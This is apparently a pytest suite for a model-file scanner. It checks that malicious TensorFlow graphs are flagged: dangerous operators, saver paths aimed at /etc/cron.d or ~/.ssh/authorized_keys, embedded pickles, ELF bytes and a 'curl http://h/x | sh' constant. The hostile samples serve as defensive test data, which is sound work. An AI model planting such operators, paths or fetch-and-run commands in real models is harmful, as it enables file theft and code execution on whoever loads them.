"""TensorFlow graphs: operators by default deny, wherever they stand and whatever wraps them."""

from __future__ import annotations

import base64
import json

import pytest
from samples.archives import HARMFUL_PICKLE
from samples.protobufs import attr, field, function, inputs, node_def, saved_model
from samples.scanned import assert_clean, grave_rules_of, scanned, scanned_folder

from tidegate.scanners.interface import Severity

STRING = 7


def found(data: bytes | str, name: str = "saved_model.pb") -> set[str]:
    return grave_rules_of(scanned(data.encode() if isinstance(data, str) else data, name))


def constant(name: str, text: str | bytes) -> bytes:
    """A Const node with one string."""
    data = text.encode() if isinstance(text, str) else text
    tensor = field(1, STRING) + field(8, data)
    return node_def("Const", name, attr("value", field(8, tensor)), attr("dtype", field(6, STRING)))


HARMLESS = node_def("AddV2")

REACHING = [
    "ReadFile", "WriteFile", "MatchingFiles", "PyFunc", "PyFuncStateless", "EagerPyFunc",
    "WholeFileReaderV2", "TextLineReaderV2", "TextLineDataset", "TFRecordDatasetV2",
    "FixedLengthRecordDatasetV2", "SqlDataset", "CSVDatasetV2", "SnapshotDatasetV2",
    "CacheDatasetV2", "SaveDatasetV2", "LoadDataset", "DatasetToTFRecord", "ImmutableConst",
    "CreateSummaryFileWriter", "ImportEvent", "RpcCall", "RpcServerStart", "DataServiceDatasetV4",
    "RegisterDatasetV2", "DebugIdentityV2", "DebugNumericSummary", "GeneratorDataset",
    "RemoteCall", "_HostSend", "CollectiveBcastSendV2", "LoadAndRemapMatrix", "DumpTensor",
    "MatchingFilesDataset", "LMDBReader", "FileSystemSetConfiguration", "WorkerHeartbeat",
]  # fmt: skip


@pytest.mark.parametrize("op", REACHING)
def test_an_operator_that_reaches_out_is_held_in_every_wrapping(op):
    node = HARMLESS + node_def(op)
    library = field(2, function("f", HARMLESS, node_def(op)))
    for graph in (node, HARMLESS + library, library):
        assert found(saved_model(graph=graph)) == {"TF-OPERATOR"}
        assert found(graph, "frozen.pb") == {"TF-OPERATOR"}
        assert found(graph, "model.bin") == {"TF-OPERATOR"}
        assert found(field(2, graph), "model.meta") == {"TF-OPERATOR"}


@pytest.mark.parametrize("op", ["EvilOp", "Addons>Evil", "readfile", "ReadFile ", "Zero_Out"])
def test_an_operator_that_tensorflow_does_not_have_is_held(op):
    assert found(saved_model(graph=HARMLESS + node_def(op))) == {"TF-OPERATOR"}


def test_a_function_of_the_graph_is_no_unknown_operator():
    graph = node_def("__inference_f_12") + field(2, function("__inference_f_12", HARMLESS))
    assert_clean(scanned(saved_model(graph=graph)))


def test_a_function_does_not_hide_an_operator_of_its_name():
    graph = node_def("ReadFile") + field(2, function("ReadFile", HARMLESS))
    assert found(saved_model(graph=graph)) == {"TF-OPERATOR"}


def test_an_operator_named_as_a_function_is_held():
    call = node_def("PartitionedCall", "c", attr("f", field(10, field(1, "ReadFile"))))
    assert found(saved_model(graph=call)) == {"TF-OPERATOR"}


def test_an_operator_that_is_named_twice_is_judged_both_times():
    node = field(1, field(1, "n") + field(2, "ReadFile") + field(2, "AddV2"))
    assert found(saved_model(graph=node)) == {"TF-OPERATOR", "PROTOBUF-AMBIGUOUS"}


def test_python_and_writing_are_critical():
    for op in ("PyFunc", "WriteFile", "ReadFile"):
        report = scanned(saved_model(graph=node_def(op)))
        assert max(one.severity for one in report.findings) is Severity.CRITICAL


@pytest.mark.parametrize(
    ("op", "key", "bad", "good"),
    [
        ("PrintV2", "output_stream", "file:///tmp/x", "stderr"),
        ("PrintV2", "output_stream", "/tmp/x", "log(info)"),
        ("DecodeProtoV2", "descriptor_source", "/tmp/types.pb", "local://"),
        ("FixedUnigramCandidateSampler", "vocab_file", "/etc/passwd", ""),
    ],
)
def test_an_attribute_that_names_a_file_is_held(op, key, bad, good):
    for value in (bad, bad.encode()):
        node = node_def(op, "n", attr(key, field(2, value)))
        assert found(saved_model(graph=node)) == {"TF-OPERATOR"}
    assert_clean(scanned(saved_model(graph=node_def(op, "n", attr(key, field(2, good))))))


# --- savers: harmless with the path of who loads the model, and with no other

SAVER = inputs(node_def("SaveV2", "save"), "path")


@pytest.mark.parametrize(
    "path",
    [
        constant("path", "/etc/cron.d/x"),
        constant("path", "../../x"),
        constant("path", "gs://bucket/x"),
        constant("path", "C:\\x"),
        inputs(node_def("DecodeBase64", "path"), "p"),
        inputs(node_def("StringJoin", "path"), "a", "b") + constant("a", "/etc/"),
        inputs(node_def("ReduceJoin", "path"), "a"),
        inputs(node_def("Identity", "path"), "a") + constant("a", "/root/.ssh/authorized_keys"),
        inputs(node_def("PlaceholderWithDefault", "path"), "a") + constant("a", "/tmp/x"),
        inputs(node_def("ShardedFilename", "path"), "a") + constant("a", "~/x"),
    ],
)
def test_a_saver_with_a_path_of_the_graph_is_held(path):
    for op in ("SaveV2", "RestoreV2", "Save", "Restore"):
        saver = inputs(node_def(op, "save"), "path")
        assert found(saved_model(graph=saver + path)) == {"TF-FILE-PATH"}
        inside = field(2, function("f", saver, path))
        assert found(saved_model(graph=HARMLESS + inside)) == {"TF-FILE-PATH"}


def test_the_place_that_checkpoints_are_merged_into_is_looked_at_too():
    merge = inputs(node_def("MergeV2Checkpoints", "m"), "a", "b")
    graph = merge + node_def("Placeholder", "a") + constant("b", "/etc/x")
    assert found(saved_model(graph=graph)) == {"TF-FILE-PATH"}


def test_a_path_that_is_handed_to_a_saving_function_is_found():
    name = "__inference__traced_save_12"
    inner = field(2, function(name, inputs(node_def("SaveV2", "s"), "argument")))
    call = inputs(node_def("PartitionedCall", "c", attr("f", field(10, field(1, name)))), "p")
    assert found(saved_model(graph=call + constant("p", "/etc/x") + inner)) == {"TF-FILE-PATH"}
    asked = node_def("Placeholder", "p")
    assert found(saved_model(graph=call + asked + inner)) == {"TF-FILE-PATH"}
    own = inputs(call, "saver_filename") + node_def("Placeholder", "saver_filename")
    assert_clean(scanned(saved_model(graph=own + inner)))
    other = field(2, function("other", inputs(node_def("SaveV2", "s"), "argument")))
    assert found(saved_model(graph=HARMLESS + other)) == {"TF-FILE-PATH"}
    outer = field(2, function(name, inputs(node_def("SaveV2", "s"), "argument"))
                  + function("outer", call))  # fmt: skip
    again = inputs(node_def("PartitionedCall", "d", attr("f", field(10, field(1, "outer")))), "q")
    assert "TF-FILE-PATH" in found(saved_model(graph=again + constant("q", "/etc/x") + outer))


def test_a_table_filled_from_a_file_of_the_machine_is_held():
    table = inputs(node_def("InitializeTableFromTextFileV2", "t"), "h", "p")
    graph = table + node_def("HashTableV2", "h") + constant("p", "/etc/passwd")
    assert found(saved_model(graph=graph)) == {"TF-FILE-PATH"}
    asset = field(6, field(1, field(1, "p:0")) + field(2, "vocab.txt"))
    assert_clean(scanned(saved_model(asset, graph=graph)))
    # TensorFlow 1 lists the word lists of a training run so; it is opened all the same.
    listed = field(4, field(1, "asset_filepaths") + field(2, field(1, field(1, "p:0"))))
    for path in ("/etc/passwd", "../../x.txt", "s3://bucket/x.txt", "\\\\host\\x"):
        outside = table + node_def("HashTableV2", "h") + constant("p", path)
        report = scanned(saved_model(listed, graph=outside))
        assert {one.severity for one in report.findings} == {Severity.HIGH}
    inside = table + node_def("HashTableV2", "h") + constant("p", "vocab.txt")
    assert_clean(scanned(saved_model(listed, graph=inside)))


@pytest.mark.parametrize("name", ["../../etc/passwd", "/etc/passwd", "C:\\x", "http://h/x"])
def test_an_asset_outside_the_model_is_held(name):
    asset = field(6, field(1, field(1, "p:0")) + field(2, name))
    assert found(saved_model(asset, graph=HARMLESS)) == {"TF-FILE-PATH"}


# --- what else a graph may carry


@pytest.mark.parametrize(
    "text", ["#!/bin/sh\necho hello", "__import__('os').system('true')", "curl http://h/x | sh"]
)
def test_code_in_a_constant_is_held(text):
    assert found(saved_model(graph=constant("c", text))) == {"GRAPH-EMBEDDED-CODE"}


def test_a_pickle_in_a_constant_or_collection_is_held():
    coded = base64.b64encode(HARMFUL_PICKLE)
    for text in (HARMFUL_PICKLE, coded):
        rules = found(saved_model(graph=constant("c", text)))
        assert any(rule.startswith("PICKLE") for rule in rules)
        collection = field(4, field(1, "k") + field(2, field(2, field(1, text))))
        rules = found(saved_model(collection, graph=HARMLESS))
        assert any(rule.startswith("PICKLE") for rule in rules)


def test_a_program_in_a_constants_bytes_is_held():
    payload = b"\x7fELF\2\1\1" + bytes(57)
    tensor = field(1, 4) + field(2, field(2, field(1, len(payload)))) + field(4, payload)
    node = node_def("Const", "c", attr("value", field(8, tensor)))
    assert "CODE-NATIVE" in found(saved_model(graph=node))


def test_a_constant_of_another_size_than_its_shape_is_held():
    tensor = field(1, 1) + field(2, field(2, field(1, 5))) + field(4, bytes(16))
    node = node_def("Const", "c", attr("value", field(8, tensor)))
    assert found(saved_model(graph=node)) == {"TF-MALFORMED"}


def test_what_hides_in_or_behind_the_message_is_found():
    data = saved_model(graph=HARMLESS)
    assert found(data + field(99, b"payload" * 9)) == {"PROTOBUF-HIDDEN-DATA"}
    assert "PROTOBUF-MALFORMED" in found(data + b"\xff" * 20)
    assert scanned(data[:-4], "saved_model.pb").unread_parts
    assert found(field(1, 2) + data) == {"PROTOBUF-AMBIGUOUS"}
    assert found(data + HARMFUL_PICKLE)


def lambda_layer() -> bytes:
    config = {"class_name": "Lambda", "config": {"function": ["4wEAAAA=", None, None]}}
    return json.dumps({"class_name": "Sequential", "config": {"layers": [config]}}).encode()


def test_a_lambda_layer_in_keras_metadata_is_held():
    saved = field(2, 1) + field(3, "root") + field(4, "_tf_keras_model") + field(5, lambda_layer())
    assert found(field(1, saved), "keras_metadata.pb") & {"KERAS-CODE", "KERAS-LAMBDA"}
    objects = field(7, field(1, field(4, field(1, "_tf_keras_layer") + field(3, lambda_layer()))))
    assert found(saved_model(objects, graph=HARMLESS)) & {"KERAS-CODE", "KERAS-LAMBDA"}


# --- the text format

TEXTS = [
    'node { name: "n" op: "ReadFile" }',
    'node: <name: "n", op: "ReadFile">',
    "node { name: 'n' op: 'Read' 'File' }",
    'node { name: "n" op: "\\122ead\\x46ile" }',
    '# a comment\nnode [{ name: "a" op: "AddV2" }, { name: "n"; op: "ReadFile" }]',
    'library { function { signature { name: "f" } node_def { name: "n" op: "PyFunc" } } }',
    'saved_model_schema_version: 1 meta_graphs { graph_def { node { name: "n" op: "ReadFile" } } }',
    'meta_graphs { graph_def { library { function { node_def { op: "WriteFile" } } } } }',
    '#!/bin/sh\nnode { name: "n" op: "ReadFile" }',
]


@pytest.mark.parametrize("text", TEXTS)
@pytest.mark.parametrize("name", ["saved_model.pbtxt", "graph.txt", "x.pb"])
def test_graphs_as_text_are_read_like_binary_ones(text, name):
    assert "TF-OPERATOR" in found(text, name)


def test_a_text_that_breaks_off_is_held():
    assert found('node { name: "n" op: "AddV2" ', "g.pbtxt") == {"PROTOBUF-MALFORMED"}
    assert found('node { name: "n" op: "AddV2" } what', "g.pbtxt") == {"PROTOBUF-MALFORMED"}
    assert found('node { name: "n" secret: "x" op: "AddV2" }', "g.pbtxt") == {
        "PROTOBUF-HIDDEN-DATA"
    }
    deep = "node { attr { value { list { func { attr { value { " * 500
    report = scanned(deep.encode(), "g.pbtxt")
    assert report.findings or report.unread_parts


def test_a_graph_behind_much_else_is_read():
    node = 'node { name: "n" op: "ReadFile" }\n'
    padded = (
        "node { name: 'c' op: 'Const' attr { key: 'value' value { s: '" + "x" * 400_000 + "' }}}"
    )
    for name in ("saved_model.pbtxt", "graph.txt"):
        assert "TF-OPERATOR" in found("# a comment\n" * 40_000 + node, name)
        assert "TF-OPERATOR" in found("#" * 600_000 + "\n\n" + node, name)
    assert "TF-OPERATOR" in found(padded + node, "graph.pbtxt")


def test_a_label_map_is_a_plain_text():
    assert_clean(scanned(b'item {\n  id: 1\n  name: "person"\n}\n', "label_map.pbtxt"))


@pytest.mark.parametrize(
    ("path", "held"),
    [("model.ckpt-5", False), ("/home/a/model.ckpt-5", False), ("../x", True), ("s3://b/x", True)],
)
def test_the_list_of_checkpoints_may_not_lead_elsewhere(path, held):
    assert bool(found(f'model_checkpoint_path: "{path}"\n', "checkpoint")) is held


def test_honest_saved_models_pass(tmp_path):
    for name, graph in (("a", HARMLESS), ("b", SAVER + node_def("Placeholder", "path"))):
        folder = tmp_path / name
        folder.mkdir()
        (folder / "saved_model.pb").write_bytes(saved_model(graph=graph))
    assert_clean(scanned_folder(tmp_path))


# --- the same bytes as several things


def test_a_graph_that_could_be_another_kind_of_model_is_read_as_both():
    import io

    from tidegate.scanners.protobuf.probe import messages_of

    onnx_node = field(1, "x") + field(2, "y") + field(4, "Relu")
    onnx_graph = field(7, field(1, onnx_node) + field(2, "g"))
    data = saved_model(graph=node_def("ReadFile")) + onnx_graph
    families = {name for name, _ in messages_of(io.BytesIO(data), len(data))}
    assert families == {"onnx", "tensorflow"}
    assert "TF-OPERATOR" in found(data)
    both = node_def("ReadFile") + field(2, field(2, HARMLESS)) + field(7, b"")
    assert "TF-OPERATOR" in found(both, "x.pb")


def test_a_program_that_calls_back_into_python_is_held():
    for module in (b"custom_call xla_python_cpu_callback", b"x" * (2 << 20) + b"python_callback"):
        node = node_def("XlaCallModule", "x", attr("module", field(2, module)))
        assert found(saved_model(graph=node)) == {"TF-OPERATOR"}
    node = node_def("XlaCallModule", "x", attr("module", field(2, b"stablehlo.add")))
    assert_clean(scanned(saved_model(graph=node)))


@pytest.mark.parametrize("before", ["\ufeff", "\r\r", "\f", "versions{producer:1}", "# c\n,"])
def test_a_graph_as_text_is_told_behind_odd_starts(before):
    text = before.lstrip(",") + 'node { name: "n" op: "ReadFile" }'
    assert found(text, "graph.pbtxt") & {"TF-OPERATOR", "PROTOBUF-MALFORMED"}


def test_the_mark_of_a_hub_module_passes():
    assert_clean(scanned(b"\x08\x03", "tfhub_module.pb"))
